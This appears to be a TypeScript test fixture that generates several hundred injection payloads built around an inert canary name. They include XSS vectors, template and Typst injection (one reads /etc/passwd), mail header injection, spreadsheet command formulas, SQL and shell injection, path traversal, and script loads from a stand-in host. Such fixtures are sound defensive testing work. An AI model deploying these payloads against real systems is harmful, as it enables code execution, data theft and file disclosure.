// 300 texts that mean harm to whatever would take them for more than text: pages, papers, mails, tables, templates and commands. Made of
// vectors and the contexts that they try to break out of; the same ones in the same order every time.

/** What a payload would call, set, load or be named if it came to life: nothing of ours is called so. */
export const CANARY = 'zqcanary'
const CALL = `${CANARY}(1)`

/** Elements that run something on their own. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt >${CALL}</sCrIpT >`,
  `<script src=//${CANARY}.example/x.js></script>`,
  `<script src=data:text/javascript,${CALL}></script>`,
  `<img src=x onerror=${CALL} ${CANARY}>`,
  `<img/src="x"/onerror="${CALL}"/${CANARY}>`,
  `<svg onload=${CALL} ${CANARY}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s ${CANARY}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>" ${CANARY}></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;" ${CANARY}>`,
  `<math href="javascript:${CALL}" ${CANARY}>x</math>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>" ${CANARY}></iframe>`,
  `<iframe src="javascript:parent.${CALL}" ${CANARY}></iframe>`,
  `<object data="javascript:${CALL}" ${CANARY}></object>`,
  `<embed src="javascript:${CALL}" ${CANARY}>`,
  `<body onload=${CALL} ${CANARY}>`,
  `<input autofocus onfocus=${CALL} ${CANARY}>`,
  `<select autofocus onfocus=${CALL} ${CANARY}></select>`,
  `<details open ontoggle=${CALL} ${CANARY}>x</details>`,
  `<video><source onerror=${CALL} ${CANARY}></video>`,
  `<audio src=x onerror=${CALL} ${CANARY}></audio>`,
  `<marquee onstart=${CALL} ${CANARY}>x</marquee>`,
  `<div style="animation:x" onanimationstart=${CALL} ${CANARY}>x</div>`,
  `<a href="javascript:${CALL}" ${CANARY}>x</a>`,
  `<form action="javascript:${CALL}" ${CANARY}><button>x</button></form>`,
  `<button formaction="javascript:${CALL}" ${CANARY}>x</button>`,
  `<base href="//${CANARY}.example/" ${CANARY}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}" ${CANARY}>`,
  `<link rel=stylesheet href="//${CANARY}.example/x.css" ${CANARY}>`,
  `<style>@import "//${CANARY}.example/x.css"</style>`,
  `<style>*{background:url(//${CANARY}.example/x)}</style>`,
  `<template shadowrootmode=open ${CANARY}><script>${CALL}</script></template>`,
  `<portal src="//${CANARY}.example" ${CANARY}></portal>`,
  `<${CANARY}-el onclick=${CALL}>x</${CANARY}-el>`,
]

/** What may stand before and after an element, to leave where it was put. */
const BREAKS: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</textarea></title></style>', ''],
  ['--><!-- -->', '<!--'],
  [']]>', '<![CDATA['],
]

/** Attributes that would run, where a quote is left open. */
const ATTRIBUTES = ['"', "'", '` ', '"/', "' \t"].flatMap((quote) =>
  ['onmouseover', 'autofocus onfocus', 'onpointerenter', 'style="animation:x" onanimationend'].map(
    (event) => `${quote} ${CANARY} ${event}=${CALL} x=${quote}`,
  ),
)

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript&colon;${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD56cWNhbmFyeSgxKTwvc2NyaXB0Pg==`,
  `//${CANARY}.example/x`,
  `https://${CANARY}.example/x`,
  `/\\${CANARY}.example`,
  `\\\\${CANARY}.example\\x`,
]

/** Text in a script or its data: the end of a string, of the script, of a template. */
const SCRIPTS = [
  `</script><script>${CALL}</script>`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\\";${CALL};//`,
  `\`;${CALL};\``,
  `\${${CALL}}`,
  `"}]);${CALL};(("`,
  `\u2028${CALL}\u2029`,
  `<!--<script>${CALL}`,
  `{"__proto__":{"${CANARY}":1}}`,
  `"$L1"${CALL}`,
  `["$","script",null,{"children":"${CALL}"}]`,
  `$@1${CANARY}`,
  `1:"$Sreact.fragment"\n2:["$","img",null,{"onError":"${CALL}"}]`,
]

const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{7*7}}${CANARY}`,
  `\${7*7}${CANARY}`,
  `#{7*7}${CANARY}`,
  `<%= 7*7 %>${CANARY}`,
  `[[\${7*7}]]${CANARY}`,
  `{%raw%}${CANARY}{%endraw%}`,
  `{php}${CANARY}{/php}`,
  `<?php echo '${CANARY}'; ?>`,
  `<!--#exec cmd="echo ${CANARY}"-->`,
  `&${CANARY};`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `＜script＞${CALL}＜/script＞`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
]

/** What typst would take for markup or code. */
export const TYPST = [
  `#panic("${CANARY}")`,
  `#read("/etc/passwd") ${CANARY}`,
  `#eval("1+1") ${CANARY}`,
  `#sys.inputs.paper ${CANARY}`,
  `#let ${CANARY} = 7 * 7; #${CANARY}`,
  `#import "@preview/${CANARY}:0.1.0": *`,
  `#include "${CANARY}.typ"`,
  `#image("/etc/passwd") ${CANARY}`,
  `#pagebreak() ${CANARY}`,
  `#set text(fill: white) ${CANARY}`,
  `#show: none ${CANARY}`,
  `#link("javascript:${CALL}")[x]`,
  `#context counter(page).display() ${CANARY}`,
  `]#panic("${CANARY}")[`,
  `"#panic("${CANARY}")"`,
  `$ x^2 + sum_(i=0)^n $ ${CANARY}`,
  `*${CANARY}* _${CANARY}_ \`${CANARY}\``,
  `= ${CANARY}`,
  `/ ${CANARY}: x`,
  `- ${CANARY}`,
  `@${CANARY} <${CANARY}>`,
  `// ${CANARY}`,
  `/* ${CANARY}`,
  `\\ \\u{41} \\# ${CANARY}`,
  `~ --- ... ${CANARY}`,
]

/** Heads of a mail, cells of a table, words of a shell or of SQL. */
const OTHERS = [
  `x\r\nBcc: ${CANARY}@vidu.example`,
  `x\nBcc: ${CANARY}@vidu.example`,
  `x\rBcc: ${CANARY}@vidu.example`,
  `x%0d%0aBcc: ${CANARY}@vidu.example`,
  `x\r\n\r\n<script>${CALL}</script>`,
  `x\r\nContent-Type: text/html\r\n\r\n<b>${CANARY}</b>`,
  `x\r\n.\r\nMAIL FROM:<${CANARY}@vidu.example>`,
  `=?UTF-8?B?${CANARY}?=`,
  `"${CANARY}" <${CANARY}@vidu.example>, x@vidu.example`,
  `x\r\nSet-Cookie: ${CANARY}=1`,
  ...['=', '+', '-', '@', '\t=', '\r=', '＝'].map((sign) => `${sign}HYPERLINK("https://${CANARY}.example","x")`),
  `=cmd|' /C ${CANARY}'!A0`,
  `@SUM(1+1)*cmd|' /C ${CANARY}'!A0`,
  `'; DROP TABLE ${CANARY}; --`,
  `' OR '1'='1' -- ${CANARY}`,
  `$(${CANARY})`,
  `\`${CANARY}\``,
  `| ${CANARY} &`,
  `../../../../etc/${CANARY}`,
  `%s%s%n${CANARY}`,
]

const UNICODE = [
  `\u202e${CALL}\u202c`,
  `\u2066<script>${CALL}</script>\u2069`,
  `<scr\u200bipt>${CALL}</scr\u200bipt>`,
  `<\u017fcript>${CALL}</\u017fcript>`,
  `\ufeff<script>${CALL}</script>`,
  `${CANARY}${'\u0301'.repeat(40)}`,
  `🧨${CANARY}🧨`,
  `${CANARY}\u0007\u001b[31m`,
  `ẮỗờựĐđ ${CANARY}`,
  `\u0085\u00a0\u3000${CANARY}`,
]

const all = [
  ...ADDRESSES,
  ...ATTRIBUTES,
  ...SCRIPTS,
  ...TEMPLATES,
  ...TYPST,
  ...OTHERS,
  ...UNICODE,
  ...BREAKS.flatMap(([before, after]) => ELEMENTS.map((element) => `${before}${element}${after}`)),
]

export const PAYLOADS: readonly string[] = [...new Set(all)]

/** All of them one after the other, beginning with the `turn`th: what begins a text is a danger of its own. */
export function allFrom(turn: number): string {
  const at = turn % PAYLOADS.length
  return [...PAYLOADS.slice(at), ...PAYLOADS.slice(0, at)].join(' ')
}

/** Some of them in turn. */
export const someOf = (turn: number, count: number): string =>
  Array.from({ length: count }, (_, index) => PAYLOADS[(turn * count + index) % PAYLOADS.length] ?? '').join(' ')
